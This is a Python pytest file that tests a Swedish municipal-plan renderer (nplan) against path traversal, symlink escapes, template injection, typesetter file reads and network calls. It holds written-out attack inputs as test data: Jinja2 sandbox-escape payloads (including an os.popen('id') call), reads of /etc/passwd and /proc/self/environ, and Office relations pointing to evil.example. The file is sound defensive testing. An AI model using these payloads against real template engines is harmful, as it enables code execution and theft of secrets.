"""Nothing is written outside the output folder, nothing read outside the plan and the templates, nobody is called."""

from __future__ import annotations

import base64
import io
import os
import shutil
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from nämndplan.i18n import SWEDISH
from nämndplan.plan_folders import BASELINE_FILE
from nämndplan.render import FORMATS, Refusal, publish
from nämndplan.render.publish import MANIFEST

from ..lacking import needs
from .commands import CALLS, stop_calls
from .runner import Run, in_child, nplan

ROOT = Path(__file__).parents[2]
RIK, LITEN = ROOT / "tests" / "plans" / "rik", ROOT / "tests" / "plans" / "liten"
SECRET = "mycket hemligt 4711"  # noqa: S105  (no password)
FEW = ["--format", "html", "--format", "data"]
ALL = [word for format in FORMATS for word in ("--format", format.name)]


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """A plan repository as someone has sent it, beside what is none of its business."""
    shutil.copytree(LITEN, tmp_path / "repo" / "plans" / "liten")
    outside = tmp_path / "utanför"
    (outside / "mapp").mkdir(parents=True)
    for path in (outside / "hemligt.html", outside / "mapp" / "hemligt.html", outside / "mapp" / "page.html"):
        path.write_text(SECRET, "utf-8")
    return tmp_path / "repo"


def outside(repository: Path) -> dict[str, bytes]:
    """Everything beside the repository."""
    place = repository.parent
    paths = (path for path in place.rglob("*") if not path.is_relative_to(repository))
    return {str(path.relative_to(place)): path.read_bytes() if path.is_file() else b"/" for path in paths}


def render(repository: Path, *words: str | Path) -> Run:
    """nplan render in the repository, after which all beside it is as it was."""
    before = outside(repository)
    run = nplan("render", repository / "plans" / "liten", *words, before=lambda: os.chdir(repository))
    assert outside(repository) == before
    assert not run.trouble
    assert SECRET not in run.out + run.err
    return run


# Names.


WAYS_OUT = ("../ut.md", "/ut.md", "a/../../ut.md", "..", "a/..", "a\\b.md", "C:\\a.md", "C:a.md", "a\0.md", "a\n.md")
UNFIT = ("å.md", "con", "NUL.html", "a/aux.md", "com1.txt", "lpt9", "a.", "a /b", ".a", "-a", "", "a:b", "a|b")


@pytest.mark.parametrize("name", WAYS_OUT + UNFIT)
def test_a_name_is_no_way_out(tmp_path: Path, name: str) -> None:
    with pytest.raises((ValueError, Refusal)):
        publish(tmp_path / "inne" / "ut", [(name, b"x"), ("b.md", b"y")])
    assert [path for path in tmp_path.rglob("*") if not path.is_dir()] == []


STRANGE = ("con", "nul", "prn", "com1", "aux", "lpt1", "a" * 100, "å" * 100, "..", "index", "sok", "hela-planen", "0")


@pytest.mark.parametrize("name", STRANGE)
def test_ids_give_names_that_every_system_has(repository: Path, name: str) -> None:
    """Ids of goals, assignments and boards; what cannot be one is refused, and nothing is written."""
    plan = repository / "plans" / "liten"
    goals = sorted((plan / "mål").iterdir())
    board = next((plan / "nämnder").iterdir())
    if name != "..":
        for path in (goals[0], board / "mål" / goals[0].name):
            if path.exists():
                path.rename(path.with_name(f"{name}.yaml"))
        (plan / "uppdrag" / f"{name}.yaml").write_text(f"titel: A {name[:9]}\ntill: [{board.name}]\n", "utf-8")
    else:
        (plan / "uppdrag" / "...yaml").write_text(f"titel: A\ntill: [{board.name}]\n", "utf-8")
    run = render(repository, *FEW, "-o", "ut")
    written = [path.relative_to(repository / "ut").as_posix() for path in (repository / "ut").rglob("*")]
    assert (run.code == 0) == bool(written)
    assert all(path.isascii() and len(path) < 200 for path in written)
    assert len({path.casefold() for path in written}) == len(written)


@pytest.mark.parametrize(
    "output", ["..", ".", "/", "", "../repo", "plans", "plans/liten/ut", "a\0b", "x" * 300, "~", "-"]
)
def test_an_output_that_is_none_is_refused(repository: Path, output: str) -> None:
    before = {str(path): path.is_dir() or path.read_bytes() for path in repository.rglob("*")}
    run = render(repository, "-o", output)
    after = {str(path): path.is_dir() or path.read_bytes() for path in repository.rglob("*")}
    if run.code == 0:
        assert output in {"~", "-"}, "a name like any other"
    else:
        assert run.code == 2
        assert after == before
    assert {path: after.get(path) for path in before} == before


# Links in and about the output folder.


def _our_output(repository: Path) -> Path:
    """An output folder as an earlier run has left it."""
    assert render(repository, "-o", "ut", *FEW).code == 0
    return repository / "ut"


def _file_link(repository: Path) -> None:
    page = _our_output(repository) / "index.html"
    page.unlink()
    page.symlink_to(repository.parent / "utanför" / "hemligt.html")


def _folder_link(repository: Path) -> None:
    folder = _our_output(repository) / "data"
    shutil.rmtree(folder)
    folder.symlink_to(repository.parent / "utanför" / "mapp")


def _dangling(repository: Path) -> None:
    page = _our_output(repository) / "index.html"
    page.unlink()
    page.symlink_to(repository.parent / "utanför" / "ny.html")


def _hidden_link(repository: Path) -> None:
    """Where a folder that a killed run has left would be."""
    (repository / ".ut.nplan-ny-99999999").symlink_to(repository.parent / "utanför" / "mapp")
    (repository / ".ut.nplan-gammal-99999999").symlink_to(repository.parent / "utanför" / "mapp")


@pytest.mark.parametrize("plant", [_file_link, _folder_link, _dangling, _hidden_link])
def test_links_in_place_of_ours_are_replaced_and_not_followed(repository: Path, plant: Callable[[Path], None]) -> None:
    plant(repository)
    assert render(repository, "-o", "ut", *FEW).code == 0
    assert not any(path.is_symlink() for path in repository.rglob("*"))
    assert (repository / "ut" / "index.html").read_text("utf-8").startswith("<!doctype")


def _whole_output(repository: Path) -> None:
    (repository / "ut").symlink_to(repository.parent / "utanför" / "mapp")


def _nowhere(repository: Path) -> None:
    (repository / "ut").symlink_to(repository.parent / "utanför" / "ny")


def _more_links(repository: Path) -> None:
    (_our_output(repository) / "mer").symlink_to(repository.parent / "utanför" / "mapp")


def _endless_manifest(repository: Path) -> None:
    (_our_output(repository) / MANIFEST).unlink()
    (repository / "ut" / MANIFEST).symlink_to("/dev/zero")


def _waiting_manifest(repository: Path) -> None:
    (_our_output(repository) / MANIFEST).unlink()
    os.mkfifo(repository / "ut" / MANIFEST)


def _lying_manifest(repository: Path) -> None:
    """It says that files outside are ours."""
    (repository / "ut").mkdir()
    (repository / "ut" / "viktig.txt").write_text("x", "utf-8")
    (repository / "ut" / MANIFEST).write_text(
        '{"files": ["../../utanför/hemligt.html", "/etc/passwd", ".", "", 7]}', "utf-8"
    )


@pytest.mark.parametrize(
    "plant", [_whole_output, _nowhere, _more_links, _endless_manifest, _waiting_manifest, _lying_manifest]
)
def test_what_is_not_ours_is_refused_and_kept(repository: Path, plant: Callable[[Path], None]) -> None:
    plant(repository)
    place = repository / "ut"
    before = sorted(str(path) for path in repository.rglob("*")), place.is_symlink()
    run = render(repository, "-o", "ut", *FEW)
    assert run.code == 2
    assert "ut" in run.err
    assert (sorted(str(path) for path in repository.rglob("*")), place.is_symlink()) == before


def test_the_usual_output_is_no_way_out_either(repository: Path) -> None:
    (repository / "build").symlink_to(repository.parent / "utanför" / "mapp")
    run = render(repository)
    assert (run.code, "länk" in run.err) == (2, True)


def test_a_file_managers_droppings_do_not_stand_in_the_way(tmp_path: Path) -> None:
    publish(tmp_path / "ut", [("a.md", b"1")])
    (tmp_path / "ut" / ".DS_Store").write_bytes(b"x")
    publish(tmp_path / "ut", [("a.md", b"2")])
    assert sorted(path.name for path in (tmp_path / "ut").iterdir()) == [MANIFEST, "a.md"]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("rapport.json", ("validate", "plans/liten", "--format", "json", "--output", "rapport.json")),
        (f"plans/liten/{BASELINE_FILE}", ("baseline", "plans/liten")),
        ("schemas/plan.json", ("schema", "schemas")),
        ("templates/html/page.html", ("templates", "--copy", "page.html", "--force")),
    ],
)
def test_single_files_are_not_written_through_links(repository: Path, name: str, words: tuple[str, ...]) -> None:
    assignment = repository / "plans" / "liten" / "uppdrag" / "minska-resor.yaml"
    assignment.write_text(assignment.read_text("utf-8") + "klart: snart\n", "utf-8")
    link = repository / name
    link.parent.mkdir(parents=True, exist_ok=True)
    for target in (repository.parent / "utanför" / "hemligt.html", repository.parent / "utanför" / "ny"):
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        before = outside(repository)
        run = nplan(*words, before=lambda: os.chdir(repository))
        assert run.code == 2, run
        assert not run.trouble
        assert outside(repository) == before
        assert link.is_symlink()


# Templates and pictures.

ESCAPES = (
    "{% include '../../utanför/hemligt.html' %}",
    "{% include 'html/../../../utanför/hemligt.html' %}",
    "{% extends '../../utanför/hemligt.html' %}",
    "{% import '../../utanför/hemligt.html' as x %}{{ x }}",
    "{% from '../../utanför/hemligt.html' import x %}",
    "{% include ['../../utanför/hemligt.html', 'html/länk.html'] %}",
    "{% include '{outside}/hemligt.html' %}",
    "{% include 'file://{outside}/hemligt.html' %}",
    "{% include 'html/länk.html' %}",
    "{% include 'html/mapp/hemligt.html' %}",
    "{% include 'html\\\\..\\\\..\\\\..\\\\utanför\\\\hemligt.html' %}",
    "{% include 'html/page.html\\0' %}",
    "{% set x = '../../utan' ~ 'för/hemligt.html' %}{% include x %}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "{{ plan|attr('__class__') }}",
    "{{ ''['__class__'] }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(plan) }}",
    "{{ '%s'|format(plan.__class__) }}",
    "{{ [plan]|map(attribute='__class__')|list }}",
    "{{ [plan]|groupby('__class__') }}",
    "{{ lipsum.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ _.__self__ }}{{ gettext.__globals__ }}",
    "{% set plan.title = 'x' %}",
    "{{ plan.sections.append(1) }}",
    "{{ open('/etc/passwd').read() }}",
    "{% do 1 %}",
    "{{ dict.__bases__ }}",
    "{{ joiner.__call__.__globals__ }}",
    "{{ (plan|string).encode().__reduce__() }}",
)


@pytest.mark.parametrize("text", ESCAPES)
def test_templates_stay_in_their_folder(repository: Path, text: str) -> None:
    own = repository / "templates" / "html"
    own.mkdir(parents=True)
    away = repository.parent / "utanför"
    (own / "länk.html").symlink_to(away / "hemligt.html")
    (own / "mapp").symlink_to(away / "mapp")
    (own / "paragraph.html").write_text(text.replace("{outside}", str(away)), "utf-8")
    run = render(repository, "-o", "ut", "--format", "html")
    published = "".join(path.read_text("utf-8") for path in (repository / "ut").rglob("*") if path.is_file())
    assert SECRET not in published
    assert "object at 0x" not in published
    assert "<class" not in published
    assert "root:" not in published
    assert run.code == 2 or "attribute" in text or "groupby" in text, "a list of what may not be seen is empty words"


def test_the_folder_of_templates_is_no_link_out_of_the_repository(repository: Path) -> None:
    away = repository.parent / "utanför" / "html"
    away.mkdir()
    (away / "paragraph.html").write_text(SECRET, "utf-8")
    (repository / "templates").symlink_to(away.parent)
    assert render(repository, "-o", "ut").code == 0
    assert SECRET not in (repository / "ut" / "hela-planen.html").read_text("utf-8")
    (repository / "templates").unlink()
    (repository / "delat" / "html").mkdir(parents=True)
    (repository / "delat" / "html" / "paragraph.html").write_text("<p>delat</p>", "utf-8")
    (repository / "templates").symlink_to("delat")
    assert render(repository, "-o", "ut").code == 0
    assert "<p>delat</p>" in (repository / "ut" / "hela-planen.html").read_text("utf-8")


@pytest.mark.parametrize(
    "logo", ["../../../utanför/hemligt.svg", "utseende/länk.svg", "/etc/hostname.svg", "utseende/rör.svg"]
)
def test_the_logo_stays_in_the_plan(repository: Path, logo: str) -> None:
    plan, away = repository / "plans" / "liten", repository.parent / "utanför" / "hemligt.svg"
    away.write_text(f"<svg xmlns='http://www.w3.org/2000/svg'><title>{SECRET}</title></svg>", "utf-8")
    (plan / "utseende").mkdir()
    (plan / "utseende" / "länk.svg").symlink_to(away)
    os.mkfifo(plan / "utseende" / "rör.svg")
    settings = plan / "plan.yaml"
    settings.write_text(settings.read_text("utf-8") + f"utseende:\n  namn: A\n  logotyp: {logo}\n", "utf-8")
    render(repository, *FEW, "--format", "pdf", "-o", "ut")
    for path in (repository / "ut").rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data
            assert base64.b64encode(SECRET.encode())[:16] not in data


TYPST = (
    '#read("/etc/passwd")',
    '#read("../../../../../../etc/passwd")',
    '#read("länk.txt")',
    '#include "mapp/hemligt.html"',
    '#image("/etc/passwd")',
    '#json("/proc/self/environ")',
    '#plugin("/lib/x86_64-linux-gnu/libc.so.6")',
    '#import "@preview/cetz:0.3.0"',
    '#import "\\u{40}preview/cetz:0.3.0"',
    '#eval("import \\"\\\\u{40}preview/cetz:0.3.0\\"")',
    '#dictionary(std).at("ev" + "al")("import \\"\\\\u{40}preview/cetz:0.3.0\\"")',
    '#sys.inputs.at("PATH")',
)


@pytest.mark.parametrize("text", TYPST)
def test_the_typesetter_stays_in_its_folder(repository: Path, text: str) -> None:
    own, away = repository / "templates" / "typst", repository.parent / "utanför"
    own.mkdir(parents=True)
    (own / "länk.txt").symlink_to(away / "hemligt.html")
    (own / "mapp").symlink_to(away / "mapp")
    (own / "plan.typ").write_text(f'#set document(title: "T")\n#set text(lang: "sv")\n= A\n{text}\n', "utf-8")
    run = render(repository, "-o", "ut", "--format", "pdf")
    assert run.code == 2
    assert "plan.typ:4: " in run.err
    if "cetz" in text:
        assert "paket får inte användas" in run.err
    assert not (repository / "ut").exists()


@pytest.mark.parametrize(
    "text",
    [
        "#for i in range(1000000) { for j in range(1000000) { i * j } }",
        "#let f(x) = { let a = range(1000000); f((x, a)) }\n#f(1)",
        '#let a = "x" * 1000000\n#let b = range(100000).map(i => a + str(i))\n#b.len()',
    ],
)
def test_the_typesetter_ends(repository: Path, text: str) -> None:
    from nämndplan.render.typeset import process

    own = repository / "templates" / "typst"
    own.mkdir(parents=True)
    (own / "plan.typ").write_text(f'#set document(title: "T")\n#set text(lang: "sv")\n= A\n{text}\n', "utf-8")

    def hurried() -> None:
        process.SECONDS, process.BYTES = 3, 1_500_000_000
        os.chdir(repository)

    run = nplan("render", repository / "plans" / "liten", "-o", "ut", "--format", "pdf", before=hurried)
    assert run.code == 2, run
    assert not run.trouble
    assert "plan.typ" in run.err


# Network.


def test_nobody_is_called(repository: Path) -> None:
    """Whatever is published, as seen from inside; every other command is listened to in test_kinds.py."""

    def listened() -> None:
        os.chdir(repository)
        stop_calls()

    assert nplan("render", "plans/liten", "-o", "ut", *ALL, before=listened).code == 0


def test_a_call_is_heard() -> None:
    def called() -> None:
        stop_calls()
        socket.create_connection(("192.0.2.1", 80), timeout=1)

    assert in_child(called).code == CALLS


@needs("strace")
def test_nobody_is_called_as_seen_from_outside(repository: Path) -> None:
    """The typesetter's process too, also when a template wants it to."""
    own = repository / "templates" / "typst"
    log = repository.parent / "anrop"
    command = [sys.executable, "-m", "nplan", "render", "plans/liten", "-o", "ut"]

    def calls(*formats: str) -> list[str]:
        subprocess.run(
            ["strace", "-f", "-qq", "-e", "trace=connect,sendto,sendmsg,sendmmsg", "-o", str(log), *command, *formats],
            cwd=repository,
            capture_output=True,
            check=False,
            timeout=300,
        )
        return [line for line in log.read_text("utf-8", "replace").splitlines() if "AF_INET" in line]

    assert calls(*ALL) == []
    assert (repository / "ut" / "plan.pdf").exists()
    own.mkdir(parents=True)
    (own / "plan.typ").write_text('#set document(title: "T")\n#import "\\u{40}preview/cetz:0.3.0"', "utf-8")
    assert all("127.0.0.1" in line and "htons(0)" in line for line in calls("-f", "pdf")), "only to where nobody can be"


def test_what_is_said_is_in_words(tmp_path: Path) -> None:
    run = in_child(lambda: _refused(tmp_path))
    assert "har filer som nplan inte har skrivit" in run.out


def _refused(folder: Path) -> None:
    (folder / "egen.txt").write_text("min", "utf-8")
    try:
        publish(folder, [("a.md", b"x")])
    except Refusal as refusal:
        sys.stdout.write(refusal.sentence.text(SWEDISH))


def _office_template(path: Path, part: str, relation: str) -> None:
    """Word's own empty document with one more relation."""
    from docx import Document

    made = io.BytesIO()
    Document().save(made)
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(path, "w") as out:
        names = set(source.namelist())
        for name in names:
            data = source.read(name)
            if name == part:
                data = data.replace(b"</Relationships>", relation.encode() + b"</Relationships>")
            if name == "word/settings.xml" and "attachedTemplate" in relation:
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1)
            out.writestr(name, data)
        if part not in names:
            space = "http://schemas.openxmlformats.org/package/2006/relationships"
            out.writestr(part, f'<Relationships xmlns="{space}">{relation}</Relationships>')


_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    ("part", "kind", "is_refused"),
    [
        ("word/_rels/settings.xml.rels", "attachedTemplate", False),
        ("word/_rels/document.xml.rels", "hyperlink", False),
        ("word/_rels/document.xml.rels", "image", True),
        ("word/_rels/document.xml.rels", "oleObject", True),
        ("word/_rels/settings.xml.rels", "mailMergeSource", True),
    ],
)
def test_an_office_template_has_the_reader_fetch_nothing(
    repository: Path, part: str, kind: str, is_refused: bool
) -> None:
    relation = f'<Relationship Id="rId99" Type="{_KIND}/{kind}" Target="https://evil.example/x" TargetMode="External"/>'
    _office_template(repository / "templates" / "office" / "mall.docx", part, relation)
    run = render(repository, "-o", "ut", "--format", "docx")
    assert run.code == (2 if is_refused else 0), run
    assert ("https://evil.example/x" in run.err) == is_refused
    if not is_refused:
        with zipfile.ZipFile(repository / "ut" / "plan.docx") as parts:
            everything = b"".join(parts.read(name) for name in parts.namelist())
        assert b"attachedTemplate" not in everything
        assert (b"evil.example" in everything) == (kind == "hyperlink")
